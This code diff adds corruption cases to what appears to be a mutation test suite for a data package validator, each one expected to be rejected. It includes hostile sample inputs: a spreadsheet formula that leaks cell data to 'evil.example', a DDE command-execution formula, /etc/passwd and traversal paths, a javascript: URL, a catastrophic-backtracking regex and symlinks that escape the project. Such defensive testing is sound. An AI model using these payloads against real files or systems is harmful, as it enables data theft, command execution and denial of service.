@@ -12,6 +12,7 @@ import csv
 import io
 import json
 import re
+import shutil
 from dataclasses import dataclass
 from functools import partial
 from pathlib import Path
@@ -424,3 +425,194 @@ CLASSES: dict[str, object] = {}
 for family, apply in ((CELL, _cell), (ROWS, _rows), (FILES, _file), (DESCRIPTOR, _descriptor), (BIB, _bib)):
     CLASSES.update({name: partial(apply, change=change) for name, change in family.items()})
 CLASSES["json_truncated"] = _json_truncate
+
+
+# -- the classes of issue 22: hostile text, strict JSON, links out of the repository, meaning --
+
+# Characters that print as nothing or reorder the text around them.
+INVISIBLE = ["\u202e", "\u2066", "\u00ad", "\u180e", "\u3164", "\u2062", "\ufe0f", "\U000e0041", "\u2800", "\u061c"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"x")', "=cmd|' /C calc'!A0", "=1+1"]
+# Values no column that is strict could hold: superscript, doubled sign, too many digits, markup.
+NOT_A_VALUE = ["\u00b2", "--5", "1" * 25, "<b>Bad Id</b>"]
+
+HOSTILE_CELLS = {
+    "cell_invisible_format": lambda rng, pkg, f, col, old: (old[:1] + rng.choice(INVISIBLE) + old[1:], REJECT),
+    "cell_formula": lambda rng, pkg, f, col, old: (rng.choice(FORMULAS), REJECT),
+    "cell_over_128k": lambda rng, pkg, f, col, old: ("x" * 140_000, REJECT),
+}
+
+
+def _reading_change_value(rng, pkg):
+    """A change of an alternative reading that sets a strict column to what it cannot hold."""
+    file = "reading_changes.csv"
+    rows = pkg.rows(file)
+    index = {name: i for i, name in enumerate(rows[0])}
+    strict = [
+        r
+        for r in range(1, len(rows))
+        if rows[r][index["column"]] and pkg.is_strict(f"{rows[r][index['table']]}.csv", rows[r][index["column"]])
+    ]
+    r = rng.choice(strict)
+    rows[r][index["value"]] = value = rng.choice(NOT_A_VALUE)
+    write_rows(pkg.root / "data" / file, rows)
+    return f"data/{file}", f"row {r + 1} sets {rows[r][index['column']]} to {value!r}", REJECT
+
+
+def _raw_descriptor(rng, pkg, change):
+    """Edit datapackage.json as text: what json.dumps cannot write (NaN, duplicate keys, depth)."""
+    text = pkg.original["data/datapackage.json"].decode("utf-8")
+    new, what = change(rng, text)
+    (pkg.root / "data" / "datapackage.json").write_text(new, encoding="utf-8")
+    return "data/datapackage.json", what, REJECT
+
+
+RAW_JSON = {
+    "json_nan_bound": lambda rng, text: (
+        text.replace('"minimum": 0', f'"minimum": {rng.choice(["NaN", "Infinity", "-Infinity"])}', 1),
+        "a minimum of NaN or Infinity",
+    ),
+    "json_duplicate_key": lambda rng, text: (
+        text.replace('"title": ', '"title": "Shadowed", "title": ', 2).replace(
+            '"title": "Shadowed", "title": ', '"title": ', 1
+        ),
+        "a resource's title given twice",
+    ),
+    "json_deep_nesting": lambda rng, text: (
+        '{"resources": ' + "[" * 100_000 + "]" * 100_000 + "}",
+        "nested 100,000 levels deep",
+    ),
+    "json_huge_integer": lambda rng, text: (
+        text.replace('"maxLength": 200', '"maxLength": ' + "9" * 5000, 1),
+        "an integer of 5,000 digits",
+    ),
+    "json_lone_surrogate": lambda rng, text: (
+        text.replace('"title": "', '"title": "\\ud800', 1),
+        "a lone surrogate in the package's title",
+    ),
+    "json_path_newline": lambda rng, text: (
+        text.replace('.csv"', '.csv\\n"', 1),
+        "a resource path ending in a line break",
+    ),
+}
+
+
+def _package_paths(rng, pkg):
+    path = pkg.root / "data" / "datapackage.json"
+    descriptor = json.loads(pkg.original["data/datapackage.json"])
+    where, value = rng.choice(
+        [
+            ("bibliography", "/etc/passwd"),
+            ("bibliography", "javascript:alert(1)"),
+            ("licenses", "javascript:alert(1)"),
+            ("licenses", "../../secret.txt"),
+            ("sources", "file:///etc/passwd"),
+        ]
+    )
+    if where == "bibliography":
+        descriptor["bibliography"] = value
+    else:
+        descriptor[where][0]["path"] = value
+    path.write_text(json.dumps(descriptor, indent=2, ensure_ascii=False), encoding="utf-8")
+    return "data/datapackage.json", f"package {where} path {value!r}", REJECT
+
+
+def _backtracking_pattern(rng, pkg):
+    """A pattern that backtracks catastrophically, and a cell that makes it: validation must not hang."""
+    descriptor = json.loads(pkg.original["data/datapackage.json"])
+    resource = next(r for r in descriptor["resources"] if r["name"] == "themes")
+    spec = next(f for f in resource["schema"]["fields"] if f["name"] == "description")
+    spec.setdefault("constraints", {})["pattern"] = "^(a|aa)+$"
+    (pkg.root / "data" / "datapackage.json").write_text(json.dumps(descriptor, indent=2), encoding="utf-8")
+    rows = pkg.rows("themes.csv")
+    rows[1][rows[0].index("description")] = "a" * 41 + "!"
+    write_rows(pkg.root / "data" / "themes.csv", rows)
+    return "data/themes.csv", "pattern ^(a|aa)+$ and a cell of 41 a's and '!'", REJECT
+
+
+def _outside(pkg: Package, rel: str) -> Path:
+    """A copy of one of the package's files (or data/) outside the project folder."""
+    target = pkg.root.parent / f"outside-{rel.replace('/', '-')}"
+    source = pkg.root / rel
+    if source.is_dir():
+        if not target.exists():
+            shutil.copytree(source, target)
+    else:
+        target.write_bytes(pkg.original[rel])
+    return target
+
+
+def _link_out(rng, pkg):
+    rel = rng.choice(["data/README.md", "references.bib", "data/datapackage.json", "data/studies.csv", "data"])
+    path = pkg.root / rel
+    target = _outside(pkg, rel)
+    (shutil.rmtree if path.is_dir() and not path.is_symlink() else Path.unlink)(path)
+    path.symlink_to(target, target_is_directory=target.is_dir())
+    return "data/" if rel == "data" else rel, f"{rel} is a link to a file outside the project", REJECT
+
+
+def _link_loop(rng, pkg):
+    rel = f"data/{rng.choice(pkg.csv_files())}"
+    path = pkg.root / rel
+    path.unlink()
+    path.symlink_to(path.name)  # a link to itself
+    return rel, "a link to itself", REJECT
+
+
+def _themes(rng, pkg, change):
+    rows = pkg.rows("themes.csv")
+    index = {name: i for i, name in enumerate(rows[0])}
+    what = change(rng, rows, index)
+    write_rows(pkg.root / "data" / "themes.csv", rows)
+    return "data/themes.csv", what, REJECT
+
+
+def _same_position(rng, rows, index):
+    kind = rng.choice(["theme", "subtheme"])
+    a, b = rng.sample([r for r in rows[1:] if r[index["kind"]] == kind], 2)
+    a[index["position"]] = b[index["position"]]
+    return f"two {kind}s at position {b[index['position']]}"
+
+
+def _same_name_in_other_case(rng, rows, index):
+    a, b = rng.sample(rows[1:], 2)
+    a[index["name"]] = b[index["name"]].upper()
+    return f"name {a[index['name']]!r} twice, in other case"
+
+
+def _figure_against_quote(rng, pkg):
+    """A count whose quote gives it in digits, changed by one."""
+    file = "published_figures.csv"
+    rows = pkg.rows(file)
+    index = {name: i for i, name in enumerate(rows[0])}
+    quoted = [
+        r
+        for r in range(1, len(rows))
+        if rows[r][index["value"]]
+        and rows[r][index["value"]] in [n.replace(",", "") for n in re.findall(r"\d[\d,]*", rows[r][index["quote"]])]
+    ]
+    r = rng.choice(quoted)
+    rows[r][index["value"]] = str(int(rows[r][index["value"]]) + 1)
+    write_rows(pkg.root / "data" / file, rows)
+    return f"data/{file}", f"row {r + 1} value {rows[r][index['value']]} against its quote", REJECT
+
+
+def _bib_duplicate_field(rng, raw, entry):
+    end = entry.end() - 2
+    return _splice(raw, end, end, b",\n  title = {Shadowed}"), "title given twice", REJECT
+
+
+CLASSES.update({name: partial(_cell, change=change) for name, change in HOSTILE_CELLS.items()})
+CLASSES.update({name: partial(_raw_descriptor, change=change) for name, change in RAW_JSON.items()})
+CLASSES.update(
+    {
+        "bib_duplicate_field": partial(_bib, change=_bib_duplicate_field),
+        "reading_change_value": _reading_change_value,
+        "json_package_paths": _package_paths,
+        "json_backtracking_pattern": _backtracking_pattern,
+        "link_out_of_the_project": _link_out,
+        "link_loop": _link_loop,
+        "theme_same_position": partial(_themes, change=_same_position),
+        "theme_name_in_other_case": partial(_themes, change=_same_name_in_other_case),
+        "figure_against_its_quote": _figure_against_quote,
+    }
+)
